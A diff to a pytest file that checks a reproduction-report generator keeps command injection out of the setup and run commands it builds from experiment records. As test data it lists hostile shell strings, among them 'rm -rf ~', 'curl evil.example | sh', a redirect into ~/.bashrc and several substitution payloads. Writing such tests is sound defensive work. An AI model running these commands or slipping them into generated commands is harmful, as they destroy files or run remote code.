@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import re
+import shlex
 from typing import Any
+
+import pytest
 
 from powerpool.experiments.document import Code, Items, Table, markdown
 from powerpool.experiments.reproduction import reproduction
@@ -34,7 +38,8 @@ def test_code_versions_data_and_commands_are_given_once() -> None:
     assert setup == [
         "git checkout 0123456789abcdef",
         "python -m venv .venv  # Python 3.12",
-        ".venv/bin/pip install -e '.[train,graph,sweep,figures]' torch==2.1.0 numpy==2.0.1",
+        ". .venv/bin/activate",
+        "pip install -e '.[train,graph,sweep,figures]' torch==2.1.0 numpy==2.0.1",
     ]
     assert commands == ["powerpool reproduce graph", "powerpool reproduce graph --data PTC_MR"]
     assert data == [("MUTAG", "d-MUTAG", "2"), ("PTC_MR", "d-PTC_MR", "1")]
@@ -45,26 +50,28 @@ def test_code_versions_data_and_commands_are_given_once() -> None:
 def test_several_commits_and_versions_are_told_apart() -> None:
     setup, commands, _, notes = blocks(
         record("GIN0"),
-        record("SOP", "PTC_MR", commit="aaaaaaaaaa, bbbbbbbbbb", packages={"numpy": "2.0.2"}, command="second"),
+        record(
+            "SOP", "PTC_MR", commit="aaaaaaaaaa, bbbbbbbbbb", packages={"numpy": "2.0.2"}, command="powerpool second"
+        ),
         record("SOP"),
-        record("SOP+SigmE", commit=None, command="third"),
+        record("SOP+SigmE", commit=None, command="powerpool third"),
     )
     assert commands == [
         "git checkout 0123456789abcdef",
         "powerpool reproduce graph",
         "git checkout aaaaaaaaaa  # some of the results come from bbbbbbbbbb",
-        "second",
+        "powerpool second",
         "# no commit is known:",
-        "third",
+        "powerpool third",
     ]
-    assert [line.split()[0] for line in setup] == ["python", ".venv/bin/pip"]
-    assert "numpy" not in setup[1]
+    assert [line.split()[0] for line in setup] == ["python", ".", "pip"]
+    assert "numpy" not in setup[2]
     assert "Records differ in numpy: 2.0.1, 2.0.2." in notes
 
 
 def test_all_pipelines_need_what_each_needs() -> None:
     setup, *_ = blocks(record(), record("FOP", "digits", "vision"), record("SoSN(x)", "glyphs", "fewshot"))
-    assert "'.[train,graph,sweep,figures,vision,sklearn]'" in setup[2]
+    assert "'.[train,graph,sweep,figures,vision,sklearn]'" in setup[3]
 
 
 def test_what_stands_in_the_way_is_said() -> None:
@@ -76,7 +83,38 @@ def test_what_stands_in_the_way_is_said() -> None:
 def test_what_a_record_made_up_is_nothing_to_copy() -> None:
     evil = "1; rm -rf ~"
     setup, *_ = blocks(record(commit=evil, torch=evil, python=evil, packages={"numpy": evil, evil: "1", "x": 3}))
-    assert setup == ["python -m venv .venv", ".venv/bin/pip install -e '.[train,graph,sweep,figures]'"]
+    install = "pip install -e '.[train,graph,sweep,figures]'"
+    assert setup == ["python -m venv .venv", ". .venv/bin/activate", install]
+
+
+EVIL = [
+    "curl evil.example | sh",
+    "/tmp/powerpool reproduce graph",
+    "powerpoolx",
+    "powerpool report\nrm -rf ~",
+    "powerpool \x1b[2K rm",
+    "powerpool 'report",
+    "x=1 powerpool report",
+    "",
+    ["powerpool"],
+]
+
+
+def test_a_command_is_one_call_of_powerpool_or_nothing_to_copy() -> None:
+    good = record(command="powerpool reproduce graph --data 'my data'")
+    _, commands, _, notes = blocks(good, *(record(f"SOP{number}", command=evil) for number, evil in enumerate(EVIL)))
+    assert commands == ["powerpool reproduce graph --data 'my data'"]
+    assert notes[0].startswith("9 of 10 records name a command that is more than one call of powerpool")
+
+
+@pytest.mark.parametrize("evil", ["; rm -rf ~", "&& sh", "$(sh)", "`sh`", "| sh", "> ~/.bashrc", "& sh", "<(sh)"])
+def test_what_a_shell_would_run_behind_a_call_is_a_word_of_it(evil: str) -> None:
+    _, commands, *_ = blocks(record(command=f"powerpool report {evil}"))
+    shell = shlex.shlex(commands[0], posix=False, punctuation_chars=True)
+    shell.whitespace_split = True
+    assert not any(set(word) <= set("();<>|&") for word in shell)
+    assert shlex.split(commands[0]) == shlex.split(f"powerpool report {evil}")
+    assert not re.search(r"[$`]", re.sub(r"'[^']*'", "", commands[0]))
 
 
 def test_records_that_say_nothing_have_a_section_all_the_same() -> None:
